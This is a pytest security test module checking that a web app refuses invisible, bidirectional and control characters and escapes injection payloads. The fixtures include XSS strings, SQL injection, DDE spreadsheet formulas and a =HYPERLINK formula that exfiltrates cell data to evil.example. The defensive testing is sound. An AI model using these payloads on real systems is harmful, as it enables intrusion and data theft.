"""Hostile text in every text field (issue 12, "Injection").

Fields: session titles and descriptions, unit names, bridge point names and
locations, people's full names (the API, the admin forms, the members CSV
import), questions asked on the live websocket, and the reasons of check-in
removals, manual check-ins and attendance corrections.

* ``REFUSED``: control characters, bidirectional embeddings and overrides
  (U+202E makes "exe.txt" read "txt.exe"), zero-width characters, the BOM,
  line separators. A name or a title holding one is refused (422; the
  websocket's ``invalid_message``) and nothing is stored. Multi-line fields
  (descriptions, questions, reasons) take line breaks and tabs, never the
  rest.
* ``KEPT``: HTML and script, template syntax, SQL (``' OR 1=1 --``,
  ``; DROP TABLE``), spreadsheet formulas (``=HYPERLINK(...)``, ``+cmd``,
  ``-1+1``, ``@SUM``). Stored and given back exactly as typed (the SQL does
  nothing), HTML-escaped on every page that shows them, and neutralised in
  the attendance spreadsheets: a CSV cell starts with an apostrophe, an XLSX
  cell is typed text (never a formula).
"""

from __future__ import annotations

import csv
import io
import json
import re
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from markupsafe import escape
from openpyxl import load_workbook
from sqlalchemy import func, select, text

from server.auth.roles import Role
from server.live.lifecycle import SessionStatus
from server.storage.models import BridgePoint, Session, SessionInvite, Unit, UnitLevel, User
from tests.security.conftest import World
from tests.signaling.helpers import OPENED, LiveClient

pytestmark = pytest.mark.asyncio(loop_scope="module")

REFUSED = {
    "NUL": "Tên\x00độc",
    "bell": "Tên\x07kêu",
    "escape sequence": "Tên\x1b[31mđỏ",
    "DEL": "Tên\x7fxoá",
    "C1 NEL": "Tên\x85dòng",
    "RLO U+202E": "Báo cáo\u202etxt.exe",
    "LRO U+202D": "\u202dBáo cáo",
    "RLE U+202B": "Báo\u202bcáo",
    "PDF U+202C": "Báo\u202ccáo",
    "RLI U+2067": "\u2067Báo cáo\u2069",
    "RLM U+200F": "Báo cáo\u200f",
    "ALM U+061C": "Báo\u061ccáo",
    "ZWSP U+200B": "Nguyễn\u200bVăn",
    "ZWNJ U+200C": "Nguyễn\u200cVăn",
    "ZWJ U+200D": "Nguyễn\u200dVăn",
    "word joiner U+2060": "Nguyễn\u2060Văn",
    "BOM inside": "Nguyễn\ufeffVăn",
    "line separator U+2028": "Dòng\u2028hai",
    "interlinear annotation U+FFF9": "Dòng\ufff9hai",
}
# Only names and titles (one line) refuse these; descriptions, questions and reasons take them.
LINE_BREAKS = {"newline": "Dòng một\nDòng hai", "carriage return": "Dòng một\rDòng hai", "tab": "Cột\tmột"}

FORMULAS = {
    "=HYPERLINK": '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "=DDE": "=cmd|' /C calc'!A0",
    "+cmd": "+cmd|' /C calc'!A0",
    "-1+1": "-1+1",
    "@SUM": "@SUM(1+1)*cmd|' /C calc'!A0",
}
MARKUP = {
    "script": "<script>alert(1)</script>",
    "attribute breakout": '"><img src=x onerror=alert(1)>',
    "single-quote breakout": "' onmouseover='alert(1)' x='",
    "closing script": "</script><script>alert(1)</script>",
    "entities": "&lt;b&gt; &amp; &#60;",
}
SQL = {
    "OR 1=1": "' OR 1=1 --",
    "DROP TABLE": "x'; DROP TABLE users; --",
    "UNION": '" UNION SELECT password_hash FROM users --',
}
KEPT = {**MARKUP, **SQL, **FORMULAS,
        "template": "{{ 7*7 }} {% if true %}x{% endif %} ${7*7}",
        "CRLF as text": "%0d%0aSet-Cookie: bc_token=x",
        "Vietnamese": "Nguyễn Thị Ánh Tuyết – Đắk Lắk"}

WHEN = datetime(2030, 5, 1, 8, 0, tzinfo=UTC)


def _admin(world: World) -> dict[str, str]:
    return world.bearer(world.seed.admin)


def _slug() -> str:
    return f"s-{uuid.uuid4().hex[:12]}"


async def _json(reply: Any) -> Any:
    return json.loads(reply.body)


def _names_field(reply: Any, field: str) -> bool:
    details = json.loads(reply.body).get("error", {}).get("details") or []
    return any(d.get("field") == field for d in details)


# Creating things through the API, one field at a time -----------------------------------------------------

async def _session_body(world: World, field: str, value: str) -> dict[str, Any]:
    body = {"title": f"Phiên {uuid.uuid4().hex[:8]}", "scheduled_start": WHEN.isoformat(),
            "scheduled_end": (WHEN + timedelta(hours=2)).isoformat(), "invited_point_ids": [world.seed.point_a.id]}
    body[field] = value
    return body


async def _create(world: World, kind: str, field: str, value: str) -> tuple[Any, str, str]:
    """POST one resource with ``field`` = ``value``: (reply, its URL prefix, a marker to find it by)."""
    admin = _admin(world)
    if kind == "session":
        body = await _session_body(world, field, value)
        return await world.call("POST", "/api/v1/sessions", json=body, headers=admin), "/api/v1/sessions", body["title"]
    if kind == "unit":
        slug = _slug()
        body = {"name": "Xã thử", "slug": slug, "level": "commune", "parent_id": world.seed.province_a.id, field: value}
        return await world.call("POST", "/api/v1/units", json=body, headers=admin), "/api/v1/units", slug
    if kind == "point":
        slug = _slug()
        body = {"name": "Điểm thử", "slug": slug, "unit_id": world.seed.province_a.id, field: value}
        return await world.call("POST", "/api/v1/bridge-points", json=body, headers=admin), "/api/v1/bridge-points", slug
    assert kind == "user"
    username = f"u-{uuid.uuid4().hex[:10]}"
    body = {"username": username, "full_name": "Người thử", "role": "member", "unit_id": world.seed.province_a.id,
            "password": "a long password 1", field: value}
    return await world.call("POST", "/api/v1/users", json=body, headers=admin), "/api/v1/users", username


async def _stored(world: World, kind: str, marker: str) -> bool:
    model, column = {"session": (Session, Session.title), "unit": (Unit, Unit.slug), "point": (BridgePoint, BridgePoint.slug),
                     "user": (User, User.username)}[kind]
    async with world.database.session() as db:
        return bool(await db.scalar(select(func.count()).select_from(model).where(column == marker)))


LINE_FIELDS = [("session", "title"), ("unit", "name"), ("point", "name"), ("point", "location"), ("user", "full_name")]
MULTILINE_FIELDS = [("session", "description")]


@pytest.mark.parametrize("payload", list(REFUSED) + list(LINE_BREAKS))
@pytest.mark.parametrize(("kind", "field"), LINE_FIELDS, ids=[f"{k}.{f}" for k, f in LINE_FIELDS])
async def test_a_name_or_title_with_control_bidi_or_invisible_characters_is_refused(
        world: World, kind: str, field: str, payload: str) -> None:
    value = {**REFUSED, **LINE_BREAKS}[payload]
    reply, _, marker = await _create(world, kind, field, value)
    assert reply.status in (400, 422), f"{kind}.{field} = {payload!r}: {reply.status} {reply.text[:200]}"
    if reply.status == 422:
        assert _names_field(reply, field), reply.text
    assert not await _stored(world, kind, marker if field != "title" else value)


@pytest.mark.parametrize("payload", REFUSED)
@pytest.mark.parametrize(("kind", "field"), MULTILINE_FIELDS, ids=[f"{k}.{f}" for k, f in MULTILINE_FIELDS])
async def test_a_description_with_control_bidi_or_invisible_characters_is_refused(
        world: World, kind: str, field: str, payload: str) -> None:
    reply, _, marker = await _create(world, kind, field, REFUSED[payload])
    assert reply.status in (400, 422), f"{kind}.{field} = {payload!r}: {reply.status} {reply.text[:200]}"
    assert not await _stored(world, kind, marker)


@pytest.mark.parametrize("payload", LINE_BREAKS)
async def test_a_description_keeps_its_line_breaks_and_tabs(world: World, payload: str) -> None:
    reply, prefix, _ = await _create(world, "session", "description", LINE_BREAKS[payload])
    assert reply.status == 201, reply.text
    assert (await _json(reply))["description"] == LINE_BREAKS[payload]


@pytest.mark.parametrize("payload", REFUSED)
@pytest.mark.parametrize(("kind", "field"), [("session", "title"), ("unit", "name"), ("point", "name"),
                                             ("user", "full_name")])
async def test_changing_a_name_or_title_to_one_with_such_characters_is_refused(
        world: World, kind: str, field: str, payload: str) -> None:
    if kind == "session":
        target = f"/api/v1/sessions/{await world.new_session()}"
    elif kind == "unit":
        target = f"/api/v1/units/{await world.new_unit()}"
    elif kind == "point":
        target = f"/api/v1/bridge-points/{await world.new_point()}"
    else:
        target = f"/api/v1/users/{(await world.new_user()).id}"
    before = await _json(await world.call("GET", target, headers=_admin(world)))
    reply = await world.call("PATCH", target, json={field: REFUSED[payload]}, headers=_admin(world))
    assert reply.status in (400, 422), f"PATCH {kind}.{field} = {payload!r}: {reply.status} {reply.text[:200]}"
    after = await _json(await world.call("GET", target, headers=_admin(world)))
    assert after[field] == before[field]


# The admin forms -----------------------------------------------------------------------------------------

def _form(world: World, kind: str, field: str, value: str) -> tuple[str, dict[str, str], str]:
    """(path, form, marker) for the admin page that creates one ``kind``."""
    if kind == "session":
        title = f"Phiên {uuid.uuid4().hex[:8]}"
        form = {"title": title, "description": "", "speaker_id": str(world.seed.speaker.id),
                "scheduled_start": "2030-05-01T08:00", "scheduled_end": "2030-05-01T10:00",
                "invited_point_ids": str(world.seed.point_a.id), "record": "1"}
        form[field] = value
        return "/sessions/new", form, value if field == "title" else title
    if kind == "unit":
        slug = _slug()
        return "/units", {"name": "Xã thử", "slug": slug, "level": "commune",
                          "parent_id": str(world.seed.province_a.id), field: value}, slug
    if kind == "point":
        slug = _slug()
        return "/bridge-points", {"name": "Điểm thử", "slug": slug, "unit_id": str(world.seed.province_a.id),
                                  "location": "", "active": "1", field: value}, slug
    username = f"u-{uuid.uuid4().hex[:10]}"
    return "/users", {"username": username, "full_name": "Người thử", "email": "", "role": "member",
                      "unit_id": str(world.seed.province_a.id), "bridge_point_id": "",
                      "password": "a long password 1", "active": "1", field: value}, username


FORM_FIELDS = [("session", "title"), ("session", "description"), ("unit", "name"), ("point", "name"),
               ("point", "location"), ("user", "full_name")]
FORM_PAYLOADS = ["RLO U+202E", "ZWSP U+200B", "NUL", "escape sequence", "BOM inside", "RLI U+2067"]


@pytest.mark.parametrize("payload", FORM_PAYLOADS)
@pytest.mark.parametrize(("kind", "field"), FORM_FIELDS, ids=[f"{k}.{f}" for k, f in FORM_FIELDS])
async def test_the_admin_forms_refuse_such_names_too(world: World, kind: str, field: str, payload: str) -> None:
    path, form, marker = _form(world, kind, field, REFUSED[payload])
    reply = await world.call("POST", path, form=form, headers=world.cookie(world.seed.admin))
    assert reply.status in (400, 422), f"{path} {field} = {payload!r}: {reply.status} {reply.location}"
    assert not await _stored(world, kind, marker)


@pytest.mark.parametrize("payload", ["script", "OR 1=1", "=HYPERLINK"])
@pytest.mark.parametrize(("kind", "field"), FORM_FIELDS, ids=[f"{k}.{f}" for k, f in FORM_FIELDS])
async def test_the_admin_forms_keep_markup_sql_and_formulas_as_text(world: World, kind: str, field: str,
                                                                     payload: str) -> None:
    path, form, marker = _form(world, kind, field, KEPT[payload])
    reply = await world.call("POST", path, form=form, headers=world.cookie(world.seed.admin))
    assert reply.status == 303, f"{path} {field} = {payload!r}: {reply.status} {reply.text[:300]}"
    assert await _stored(world, kind, marker)


# Kept as text ------------------------------------------------------------------------------------------------

KEPT_FIELDS = LINE_FIELDS + MULTILINE_FIELDS


@pytest.mark.parametrize("payload", KEPT)
@pytest.mark.parametrize(("kind", "field"), KEPT_FIELDS, ids=[f"{k}.{f}" for k, f in KEPT_FIELDS])
async def test_markup_sql_and_formulas_are_stored_and_given_back_exactly(world: World, kind: str, field: str,
                                                                          payload: str) -> None:
    async with world.database.session() as db:
        users_before = await db.scalar(select(func.count()).select_from(User))
    value = KEPT[payload]
    reply, prefix, _ = await _create(world, kind, field, value)
    assert reply.status == 201, f"{kind}.{field} = {payload!r}: {reply.status} {reply.text[:300]}"
    created = await _json(reply)
    assert created[field] == value
    again = await _json(await world.call("GET", f"{prefix}/{created['id']}", headers=_admin(world)))
    assert again[field] == value
    # The SQL did nothing: every table is there, and the users are who they were (plus this one).
    async with world.database.session() as db:
        users_after = await db.scalar(select(func.count()).select_from(User))
        tables = set(await db.scalars(text("SELECT name FROM sqlite_master WHERE type = 'table'")))
    assert {"users", "sessions", "units", "bridge_points", "checkins"} <= tables
    assert users_after == users_before + (1 if kind == "user" else 0)


async def test_sql_in_sign_in_and_search_is_just_text(world: World) -> None:
    for username, password in [("' OR 1=1 --", "' OR '1'='1"), ("admin'--", "x"), ("admin", "' OR 1=1 --"),
                               ('admin" --', "x"), ("admin; DROP TABLE users", "x")]:
        api = await world.call("POST", "/api/v1/auth/token", json={"username": username, "password": password})
        assert api.status in (401, 422), (username, api.status, api.text[:200])
        page = await world.call("POST", "/login", form={"username": username, "password": password, "next": "/"},
                                headers=world.cookie())
        assert page.status in (400, 401), (username, page.status)
    admin = _admin(world)
    for q in ["zz' OR 'zz'='zz", "' OR 1=1 --", "x'; DROP TABLE users; --", "\" OR \"\"=\""]:
        listed = await world.call("GET", f"/api/v1/users?q={quote(q)}", headers=admin)
        assert listed.status == 200
        names = [(u["username"], u["full_name"]) for u in (await _json(listed))["users"]]
        assert all(q.lower() in f"{u} {n}".lower() for u, n in names), (q, names)
        for page in (f"/users?q={quote(q)}", f"/recordings?q={quote(q)}", f"/recordings?speaker={quote(q)}"):
            assert (await world.call("GET", page, headers=world.cookie(world.seed.admin))).status == 200
    async with world.database.session() as db:
        assert await db.scalar(select(func.count()).select_from(User)) >= 7


@pytest.mark.parametrize("wildcard", ["%", "_", "%%", "a%"])
async def test_a_searchs_like_wildcards_are_literal(world: World, wildcard: str) -> None:
    listed = await world.call("GET", f"/api/v1/users?q={quote(wildcard)}&limit=500", headers=_admin(world))
    assert listed.status == 200
    names = [(u["username"], u["full_name"]) for u in (await _json(listed))["users"]]
    assert all(wildcard.lower() in f"{u}\n{n}".lower() for u, n in names), (
        f"searching {wildcard!r} found {len([n for n in names if wildcard not in n[0] + n[1]])} users whose names "
        f"do not hold it, e.g. {names[:3]}")


# The members CSV import ------------------------------------------------------------------------------------

def _csv(rows: list[tuple[str, str]]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["username", "full_name", "email", "unit", "password"])
    for username, full_name in rows:
        writer.writerow([username, full_name, "", "tinh-a", "a long password 1"])
    return out.getvalue().encode("utf-8")


async def test_the_csv_import_keeps_markup_sql_and_formulas_as_text(world: World) -> None:
    chosen = ["script", "attribute breakout", "DROP TABLE", "=HYPERLINK", "+cmd", "-1+1", "@SUM"]
    rows = [(f"imp-{uuid.uuid4().hex[:10]}", KEPT[name]) for name in chosen]
    reply = await world.call("POST", "/api/v1/users/import", data=_csv(rows), content_type="text/csv",
                             headers=_admin(world))
    assert reply.status == 201, reply.text
    async with world.database.session() as db:
        stored = dict((await db.execute(select(User.username, User.full_name)
                                        .where(User.username.in_([u for u, _ in rows])))).all())
    assert stored == dict(rows)


@pytest.mark.parametrize("payload", list(REFUSED) + ["newline", "tab"])
async def test_the_csv_import_refuses_such_names_and_creates_nobody(world: World, payload: str) -> None:
    value = {**REFUSED, **LINE_BREAKS}[payload]
    good, bad = f"imp-{uuid.uuid4().hex[:10]}", f"imp-{uuid.uuid4().hex[:10]}"
    reply = await world.call("POST", "/api/v1/users/import", data=_csv([(good, "Người tốt"), (bad, value)]),
                             content_type="text/csv", headers=_admin(world))
    assert reply.status == 422, f"{payload!r}: {reply.status} {reply.text[:300]}"
    assert _names_field(reply, "full_name"), reply.text
    async with world.database.session() as db:
        assert not await db.scalar(select(func.count()).select_from(User).where(User.username.in_([good, bad])))


# Pages escape what they show ----------------------------------------------------------------------------------

class Hostile:
    """Everything named ``payload``: a province, its hall and its location, its operator, a member, a speaker,
    a scheduled session (with the member checked in) and an ended one with its recording."""

    def __init__(self, **ids: int) -> None:
        self.__dict__.update(ids)


_HOSTILE: dict[str, Hostile] = {}


async def hostile(world: World, payload: str) -> Hostile:
    if payload in _HOSTILE:
        return _HOSTILE[payload]
    value = KEPT[payload]
    async with world.database.session() as db:
        unit = Unit(name=value, slug=_slug(), level=UnitLevel.PROVINCE, parent_id=world.seed.central.id)
        db.add(unit)
        await db.flush()
        point = BridgePoint(name=value, slug=_slug(), unit_id=unit.id, location=value)
        db.add(point)
        await db.flush()

        def person(role: Role, **more: Any) -> User:
            return User(username=f"h-{uuid.uuid4().hex[:10]}", full_name=value, role=role,
                        password_hash=world.password_hash, **more)

        operator = person(Role.OPERATOR, unit_id=unit.id, bridge_point_id=point.id)
        member = person(Role.MEMBER, unit_id=unit.id)
        speaker = person(Role.SPEAKER, unit_id=world.seed.central.id)
        db.add_all([operator, member, speaker])
        await db.flush()
        ids = {"unit": unit.id, "point": point.id, "operator": operator.id, "member": member.id,
               "speaker": speaker.id}
    users = {name: await _user(world, ids[name]) for name in ("operator", "member", "speaker")}
    scheduled = await world.new_session([ids["point"]], speaker=users["speaker"], title=value,
                                        starts_in=timedelta(minutes=2))
    async with world.database.session() as db:
        (await db.get(Session, scheduled)).description = value  # type: ignore[union-attr]
    await world.new_checkin(scheduled, users["member"], ids["point"])
    ended = await world.new_session([ids["point"]], speaker=users["speaker"], title=value)
    recording = await world.new_recording(ended, extras=False)
    _HOSTILE[payload] = Hostile(**ids, scheduled=scheduled, ended=ended, recording=recording)
    _HOSTILE[payload].users = users  # type: ignore[attr-defined]
    return _HOSTILE[payload]


async def _user(world: World, user_id: int) -> User:
    async with world.database.session() as db:
        user = await db.get(User, user_id)
        assert user is not None
        return user


# (page, who looks): every page that shows one of the hostile names.
PAGES = {
    "dashboard": ("/", "member"),
    "sessions": ("/sessions", "admin"),
    "session": ("/sessions/{scheduled}", "admin"),
    "session edit form": ("/sessions/{scheduled}/edit", "admin"),
    "speaker console": ("/sessions/{scheduled}/live", "speaker"),
    "hall screen": ("/sessions/{scheduled}/live", "operator"),
    "member player": ("/sessions/{scheduled}/live", "member"),
    "check-in list": ("/sessions/{scheduled}/checkins", "operator"),
    "phone page": ("/checkin", "member"),
    "attendance": ("/sessions/{ended}/attendance", "admin"),
    "member history": ("/users/{member}/attendance", "admin"),
    "unit report": ("/reports/units?unit={unit}", "admin"),
    "library": ("/recordings", "admin"),
    "replay": ("/recordings/{recording}", "member"),
    "units": ("/units", "admin"),
    "unit form": ("/units/{unit}/edit", "admin"),
    "bridge points": ("/bridge-points", "admin"),
    "bridge point form": ("/bridge-points/{point}/edit", "admin"),
    "users": ("/users", "admin"),
    "user form": ("/users/{member}/edit", "admin"),
    "account": ("/account/password", "member"),
}


@pytest.mark.parametrize("payload", list(MARKUP) + ["template"])
@pytest.mark.parametrize("page", PAGES)
async def test_pages_escape_stored_names(world: World, page: str, payload: str) -> None:
    things = await hostile(world, payload)
    template, who = PAGES[page]
    path = template.format(**{k: v for k, v in things.__dict__.items() if isinstance(v, int)})
    user = world.seed.admin if who == "admin" else things.users[who]  # type: ignore[attr-defined]
    reply = await world.call("GET", path, headers=world.cookie(user))
    assert reply.status == 200, (page, reply.status, reply.location)
    value = KEPT[payload]
    if str(escape(value)) != value:
        assert value not in reply.text, f"{page} ({path}) shows {payload!r} unescaped"
    assert str(escape(value)) in reply.text, f"{page} ({path}) does not show the name at all"
    if payload == "template":
        # Shown as typed: nobody evaluated it (7*7 is not 49 anywhere the name was).
        assert "49 x" not in reply.text and "$49" not in reply.text


REFLECTED = [
    ("/login?next=/{q}", None),
    ("/login?next={q}", None),
    ("/recordings?q={q}", "admin"),
    ("/recordings?speaker={q}&from={q}&to={q}&unit={q}", "admin"),
    ("/users?q={q}&role={q}", "admin"),
    ("/reports/units?unit={q}&from={q}&to={q}", "admin"),
    ("/sessions?status={q}", "admin"),
    ("/checkin?t={q}", "member"),
    ("/sessions/{q}", "admin"),
    ("/api/v1/sessions?status={q}", "admin"),
]


@pytest.mark.parametrize("payload", MARKUP)
@pytest.mark.parametrize(("template", "who"), REFLECTED, ids=[t for t, _ in REFLECTED])
async def test_what_a_url_carries_is_never_reflected_unescaped(world: World, template: str, who: str | None,
                                                               payload: str) -> None:
    path = template.format(q=quote(KEPT[payload], safe=""))
    user = {"admin": world.seed.admin, "member": world.seed.member, None: None}[who]
    headers = world.auth("anon", path) if user is None else (
        world.bearer(user) if path.startswith("/api/") else world.cookie(user))
    reply = await world.call("GET", path, headers=headers)
    assert reply.status < 500, (path, reply.status)
    assert KEPT[payload] not in reply.text, f"{path} reflects {payload!r} unescaped"
    assert KEPT[payload] not in reply.location


async def test_browser_scripts_never_parse_text_as_html() -> None:
    # The console, the hall screen and the players put names and questions on the page; with textContent
    # (and DOM nodes) a question is text. These turn text into markup or code.
    scripts = Path(__file__).resolve().parents[2] / "web" / "static" / "js"
    sinks = re.compile(r"\.innerHTML\b|\.outerHTML\b|insertAdjacentHTML|document\.write|\beval\s*\(|new Function\b"
                       r"|setTimeout\(\s*['\"]|createContextualFragment")
    found = [f"{path.name}:{number}: {line.strip()}" for path in sorted(scripts.glob("*.js"))
             for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1) if sinks.search(line)]
    assert not found, found


# The spreadsheets ------------------------------------------------------------------------------------------

EXPORTED = {**FORMULAS, "script": MARKUP["script"], "DROP TABLE": SQL["DROP TABLE"], "Vietnamese": KEPT["Vietnamese"]}


@pytest.mark.parametrize("payload", EXPORTED)
async def test_the_attendance_csv_neutralises_formulas(world: World, payload: str) -> None:
    value = EXPORTED[payload]
    things = await _export_world(world, value)
    reply = await world.call("GET", f"/api/v1/sessions/{things['session']}/attendance?format=csv",
                             headers=_admin(world))
    assert reply.status == 200
    _check_disposition(reply.headers["Content-Disposition"])
    rows = list(csv.reader(io.StringIO(reply.body.decode("utf-8-sig"))))
    header, member = rows[0], next(r for r in rows if r and r[0] == things["username"])
    cells = dict(zip(header, member, strict=False))
    expected = "'" + value if value.startswith(("=", "+", "-", "@")) else value
    shown = [cells[name] for name in header if cells.get(name) in (value, "'" + value)]
    assert len(shown) >= 3, f"the member's name, unit and hall should be in the row: {cells}"
    assert all(cell == expected for cell in shown), cells
    for row in rows:
        for cell in row:
            number = re.fullmatch(r"-?\d+(\.\d+)?", cell)
            assert number or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (payload, cell)


@pytest.mark.parametrize("payload", EXPORTED)
async def test_the_attendance_workbook_types_formulas_as_text(world: World, payload: str) -> None:
    value = EXPORTED[payload]
    things = await _export_world(world, value)
    reply = await world.call("GET", f"/api/v1/sessions/{things['session']}/attendance?format=xlsx",
                             headers=_admin(world))
    assert reply.status == 200
    _check_disposition(reply.headers["Content-Disposition"])
    book = load_workbook(io.BytesIO(reply.body))
    found = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if cell.value == value:
                    found += 1
                    assert cell.data_type == "s"
                elif isinstance(cell.value, str):
                    assert cell.value != "'" + value or not value.startswith(("=", "+", "-", "@")), (
                        f"{sheet.title}!{cell.coordinate}: an apostrophe shows in the workbook")
    # The member's name, unit and hall on the members' sheet, the hall and its unit on the points' sheet.
    assert found >= 5, found


_EXPORTS: dict[str, dict[str, Any]] = {}


async def _export_world(world: World, value: str) -> dict[str, Any]:
    """A province, its hall and a member all called ``value``, and a session (titled ``value``) inviting the hall."""
    if value in _EXPORTS:
        return _EXPORTS[value]
    username = f"x-{uuid.uuid4().hex[:10]}"
    async with world.database.session() as db:
        unit = Unit(name=value, slug=_slug(), level=UnitLevel.PROVINCE, parent_id=world.seed.central.id)
        db.add(unit)
        await db.flush()
        point = BridgePoint(name=value, slug=_slug(), unit_id=unit.id)
        db.add(point)
        await db.flush()
        db.add(User(username=username, full_name=value, role=Role.MEMBER, unit_id=unit.id,
                    password_hash=world.password_hash))
        start = datetime.now(UTC) + timedelta(minutes=5)
        session = Session(title=value, speaker_id=world.seed.speaker.id, scheduled_start=start,
                          scheduled_end=start + timedelta(hours=1), status=SessionStatus.SCHEDULED, record=False)
        session.invites = [SessionInvite(bridge_point_id=point.id)]
        db.add(session)
        await db.flush()
        _EXPORTS[value] = {"session": session.id, "username": username}
    return _EXPORTS[value]


def _check_disposition(header: str) -> None:
    # One header, one value: no quote, backslash or line break inside the ASCII name; the UTF-8 name percent-encoded.
    assert re.fullmatch(r"""attachment; filename="[A-Za-z0-9._-]+"; filename\*=UTF-8''[A-Za-z0-9%._~-]+""", header), header


# Questions on the websocket ---------------------------------------------------------------------------------

async def _room(world: World) -> tuple[LiveClient, LiveClient]:
    session_id = await world.new_session()
    sockets = []
    for user in (world.seed.speaker, world.seed.member):
        ws = await world.client.ws_connect(f"/ws/sessions/{session_id}", headers=world.bearer(user))
        live = LiveClient(ws)
        OPENED.append(live)
        await live.send("join")
        await live.expect("welcome")
        sockets.append(live)
    return sockets[0], sockets[1]


@pytest.mark.parametrize("payload", list(KEPT) + list(LINE_BREAKS))
async def test_a_question_reaches_the_host_exactly_as_typed(world: World, payload: str) -> None:
    value = {**KEPT, **LINE_BREAKS}[payload]
    host, member = await _room(world)
    try:
        await member.send("question", text=value)
        ack = await member.expect("question_received")
        asked = await host.expect("question", id=ack["id"])
        assert asked["text"] == value.strip()
        assert asked["from"] == world.seed.member.full_name
    finally:
        await host.close()
        await member.close()


@pytest.mark.parametrize("payload", REFUSED)
async def test_a_question_with_control_bidi_or_invisible_characters_is_refused(world: World, payload: str) -> None:
    host, member = await _room(world)
    try:
        await member.send("question", text=REFUSED[payload])
        error = await member.expect("error")
        assert error["code"] == "invalid_message", error
        assert any(d["field"] == "text" for d in error.get("details", [])), error
        since = host.mark()
        await host.send("ping", t=1)
        await host.expect("pong", since=since)
        assert not [m for m in host.received if m["type"] == "question"]
    finally:
        await host.close()
        await member.close()


async def test_a_question_from_someone_whose_name_is_markup_carries_the_name_as_text(world: World) -> None:
    named = await world.new_user(full_name=MARKUP["closing script"])
    session_id = await world.new_session()
    sockets = []
    try:
        for user in (world.seed.speaker, named):
            ws = await world.client.ws_connect(f"/ws/sessions/{session_id}", headers=world.bearer(user))
            live = LiveClient(ws)
            OPENED.append(live)
            sockets.append(live)
            await live.send("join")
            await live.expect("welcome")
        await sockets[1].send("question", text="Câu hỏi")
        asked = await sockets[0].expect("question")
        assert asked["from"] == MARKUP["closing script"]
    finally:
        for live in sockets:
            await live.close()


# Reasons (kept in the audit trail, shown on the reports) ------------------------------------------------------

async def _reason_target(world: World, kind: str) -> tuple[str, str, dict[str, Any]]:
    session_id = await world.new_session()
    if kind == "removal":
        checkin = await world.new_checkin(session_id)
        return "DELETE", f"/api/v1/checkins/{checkin}", {}
    if kind == "manual":
        return "POST", f"/api/v1/sessions/{session_id}/checkins/manual", {"user_id": world.seed.member.id}
    return "POST", f"/api/v1/sessions/{world.named['E']}/attendance/corrections", {
        "username": world.seed.member.username, "status": "attended"}


@pytest.mark.parametrize("payload", ["RLO U+202E", "ZWSP U+200B", "NUL", "escape sequence", "BOM inside"])
@pytest.mark.parametrize("kind", ["removal", "manual", "correction"])
async def test_a_reason_with_control_bidi_or_invisible_characters_is_refused(world: World, kind: str,
                                                                             payload: str) -> None:
    method, path, body = await _reason_target(world, kind)
    reply = await world.call(method, path, json={**body, "reason": REFUSED[payload]}, headers=_admin(world))
    assert reply.status in (400, 422), f"{kind} reason {payload!r}: {reply.status} {reply.text[:200]}"


@pytest.mark.parametrize("payload", ["script", "=HYPERLINK", "newline"])
async def test_a_correction_reason_is_kept_as_text_escaped_on_the_report_and_not_a_formula(world: World,
                                                                                         payload: str) -> None:
    value = {**KEPT, **LINE_BREAKS}[payload]
    session_id = await world.recording_session(await world.new_recording(extras=False))
    reply = await world.call("POST", f"/api/v1/sessions/{session_id}/attendance/corrections", headers=_admin(world),
                             json={"username": world.seed.member.username, "status": "attended", "reason": value})
    assert reply.status == 201, reply.text
    assert (await _json(reply))["correction"]["reason"] == value
    page = await world.call("GET", f"/sessions/{session_id}/attendance", headers=world.cookie(world.seed.admin))
    assert page.status == 200
    if payload != "newline":
        assert value not in page.text
    assert str(escape(value)) in page.text
    sheet = await world.call("GET", f"/api/v1/sessions/{session_id}/attendance?format=csv", headers=_admin(world))
    for row in csv.reader(io.StringIO(sheet.body.decode("utf-8-sig"))):
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
